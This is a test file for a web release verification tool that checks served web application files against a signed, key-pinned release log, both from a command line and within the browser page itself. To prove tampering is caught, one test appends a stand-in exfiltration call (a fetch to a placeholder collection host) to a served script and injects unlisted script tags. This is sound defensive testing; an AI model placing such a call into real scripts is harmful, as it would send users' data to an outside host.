"""``uhs web verify`` against a server serving the shipped web application: every file
it serves under /app/ is in its web release log, proven in a signed checkpoint; the
log's key is pinned at the first check; a file changed on the server after its start,
or a script added to the page, is named and refused, as is a log signed by another
key than the one pinned."""

from __future__ import annotations

import json
import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest
from typer.testing import CliRunner

from tests.web.browser_app import CHROMIUM
from tests.web.served_app import build_shipped_app, served_app
from uhealthsec.client.cli import app, exit_codes
from uhealthsec.client.cli.web import PINS_FILE
from uhealthsec.protocol.encoding import b64u_encode
from uhealthsec.server.web_app import WEB_ASSETS


@pytest.fixture(scope="module")
def site(
    tmp_path_factory: pytest.TempPathFactory, sqlite_template: Path
) -> Iterator[tuple[str, Path]]:
    """The server, serving a copy of the built application that tests may change (and
    put back)."""
    build_shipped_app()
    home = tmp_path_factory.mktemp("web-release")
    assets = home / "web_assets"
    shutil.copytree(WEB_ASSETS, assets)
    with served_app(home, sqlite_template, assets) as url:
        yield url, assets


def _verify(url: str, config: Path, *extra: str):
    return CliRunner().invoke(
        app, ["web", "verify", url, *extra], env={"UHS_CONFIG_DIR": str(config)}
    )


def _served_files(assets: Path) -> list[str]:
    return sorted(p.relative_to(assets).as_posix() for p in assets.rglob("*") if p.is_file())


def test_every_served_file_is_verified_against_the_log_whose_key_is_pinned(site, tmp_path):
    url, assets = site
    first = _verify(url, tmp_path, "--json")
    assert first.exit_code == exit_codes.OK, first.output
    result = json.loads(first.stdout)
    assert result["verified"] == _served_files(assets)
    assert (result["changed"], result["unlisted"], result["previous_size"]) == ([], [], 0)
    pin = json.loads((tmp_path / PINS_FILE).read_text())[url]
    assert pin["origin"].endswith("/web")
    assert pin["size"] == result["size"] >= len(result["verified"])
    # Again: the log proven an extension of the pinned one.
    again = _verify(url, tmp_path)
    assert again.exit_code == exit_codes.OK, again.output
    said = " ".join(again.stdout.split())
    assert f"extending the {pin['size']} this device verified before" in said


def test_a_file_changed_on_the_server_or_a_script_added_to_the_page_is_named_and_refused(
    site, tmp_path
):
    url, assets = site
    [script] = (assets / "assets").glob("index-*.js")
    page = assets / "index.html"
    kept = {script: script.read_bytes(), page: page.read_bytes()}
    try:
        script.write_bytes(kept[script] + b"\nfetch('https://collect.example/?k=' + 1);\n")
        page.write_bytes(
            kept[page].replace(
                b"</head>",
                b'<script type="module" src="/app/assets/extra-Abcdef12.js"></script></head>',
            )
        )
        refused = _verify(url, tmp_path, "--json")
    finally:
        for path, content in kept.items():
            path.write_bytes(content)
    assert refused.exit_code == exit_codes.REFUSED, refused.output
    result = json.loads(refused.stdout)
    assert result["changed"] == ["/app/", f"assets/{script.name}", "index.html"]
    assert result["unlisted"] == ["assets/extra-Abcdef12.js"]
    assert f"assets/{script.name} is served with other content" in " ".join(refused.stderr.split())
    assert _verify(url, tmp_path).exit_code == exit_codes.OK


def test_a_script_the_page_names_relatively_or_without_double_quotes_is_named_too(site, tmp_path):
    """A browser loads ``assets/x.js``, ``./assets/x.js``, ``src='/app/assets/x.js'``
    and ``src=/app/assets/x.js`` from the page at /app/ just as it loads
    ``src="/app/assets/x.js"``: a page naming a file in any of these ways that the
    log does not list runs unpublished code, and the check must say so."""
    url, assets = site
    page = assets / "index.html"
    kept = page.read_bytes()
    named = {
        "assets/relative-Abcdef12.js": b'<script type="module" src="assets/relative-Abcdef12.js">',
        "assets/dotted-Abcdef12.js": b'<script type="module" src="./assets/dotted-Abcdef12.js">',
        "assets/single-Abcdef12.js": b"<script src='/app/assets/single-Abcdef12.js'>",
        "assets/bare-Abcdef12.js": b'<script type="module" src=/app/assets/bare-Abcdef12.js>',
    }
    try:
        page.write_bytes(
            kept.replace(
                b"</head>", b"".join(t + b"</script>" for t in named.values()) + b"</head>"
            )
        )
        refused = _verify(url, tmp_path, "--json")
    finally:
        page.write_bytes(kept)
    assert refused.exit_code == exit_codes.REFUSED, refused.output
    assert json.loads(refused.stdout)["unlisted"] == sorted(named)


def test_a_log_signed_by_another_key_than_the_pinned_one_is_refused(site, tmp_path):
    url, _ = site
    assert _verify(url, tmp_path).exit_code == exit_codes.OK
    pins = json.loads((tmp_path / PINS_FILE).read_text())
    pins[url]["log_key"] = b64u_encode(bytes(32))
    (tmp_path / PINS_FILE).write_text(json.dumps(pins))
    refused = _verify(url, tmp_path)
    assert refused.exit_code == exit_codes.REFUSED
    assert "signed by another key than before" in " ".join(refused.stderr.split())


READ_PIN = """
() => new Promise((resolve, reject) => {
  const opening = indexedDB.open("uhealthsec-web-release");
  opening.onerror = () => reject(opening.error);
  opening.onsuccess = () => {
    const request = opening.result.transaction("pins").objectStore("pins").get("web");
    request.onsuccess = () => resolve(request.result ?? null);
  };
})
"""


def _open_page(url: str) -> tuple[str, str, dict | None]:
    """(data-release once decided, the alert's text, the pin kept) of a fresh visit."""
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM)
        try:
            page = browser.new_page()
            page.goto(f"{url}/app/")
            page.wait_for_selector("body[data-release]", timeout=30_000)
            verdict = page.evaluate("document.body.dataset.release")
            alert = page.evaluate("document.getElementById('release-alert')?.textContent ?? ''")
            pin = page.evaluate(READ_PIN)
        finally:
            browser.close()
    return verdict, alert, pin


def test_the_page_checks_its_own_files_against_the_log_and_pins_it(site):
    url, assets = site
    verdict, alert, pin = _open_page(url)
    assert (verdict, alert) == ("verified", "")
    assert pin["origin"].endswith("/web")
    assert int(pin["size"]) >= len(_served_files(assets))
    page = assets / "index.html"
    kept = page.read_bytes()
    try:
        page.write_bytes(kept.replace(b"</main>", b"<p>Saisissez votre mot de passe</p></main>"))
        verdict, alert, _ = _open_page(url)
    finally:
        page.write_bytes(kept)
    assert verdict == "refused"
    assert "index.html is not the file the web release log holds" in alert


def test_the_page_refuses_a_crypto_worker_changed_beside_it(site):
    """No integrity attribute covers the crypto worker, which holds the keys and sees
    the password: the page's own check against the log is what catches it changed."""
    url, assets = site
    [worker] = (assets / "assets").glob("worker-*.js")
    kept = worker.read_bytes()
    try:
        worker.write_bytes(kept + b"\n// sent elsewhere\n")
        verdict, alert, _ = _open_page(url)
    finally:
        worker.write_bytes(kept)
    assert verdict == "refused"
    assert f"assets/{worker.name} is not the file the web release log holds" in alert


def test_the_page_takes_no_password_before_its_files_are_verified(site):
    """The crypto worker receives the password at sign-in: until the page has checked
    its files against the log, a worker the log does not hold could be the one
    receiving it. The check is held unanswered here; the sign-in form is shown, but
    nothing in it may take input yet."""
    from playwright.sync_api import sync_playwright

    url, _ = site
    held = []
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM)
        try:
            page = browser.new_page()
            page.route("**/web-release/**", lambda route: held.append(route))
            page.goto(f"{url}/app/")
            page.wait_for_selector("input[type=password]", state="attached", timeout=30_000)
            verdict = page.evaluate("document.body.dataset.release ?? null")
            usable = page.evaluate(
                "(() => { const p = document.querySelector('input[type=password]');"
                " return !p.disabled && p.closest('[inert]') === null; })()"
            )
        finally:
            browser.close()
    assert held, "the page never asked for the web release log"
    assert verdict is None
    assert not usable, "the password field takes input before the release is verified"
